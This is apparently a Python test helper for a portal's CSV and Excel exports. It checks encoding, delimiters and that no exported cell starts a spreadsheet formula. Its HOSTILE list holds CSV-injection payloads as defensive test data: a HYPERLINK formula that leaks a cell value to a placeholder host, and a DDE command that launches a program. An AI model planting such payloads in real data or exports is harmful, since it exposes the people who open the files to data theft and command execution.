"""Checks every export test shares: the file opens right in Swedish Excel and holds no formula."""

import csv
import io

from openpyxl import load_workbook

from portal.exporter import FORMULA_STARTS

# Partner-, citizen- and staff-typed text that a spreadsheet would run as a formula.
HOSTILE = [
    '=HYPERLINK("http://x.example/?a="&A3,"k")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV download, after checking it is UTF-8 with a BOM and ``;``-separated."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert ";" in text.splitlines()[0]
    return rows


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert live == [], f"cells a spreadsheet would run: {live}"


def xlsx_sheet(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith('attachment; filename="')
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    return sheet


def assert_no_formula_in_xlsx(sheet) -> None:
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    live = [
        c.value
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]
    assert live == []


def texts(rows) -> set[str]:
    return {str(cell) for row in rows for cell in row if cell is not None}
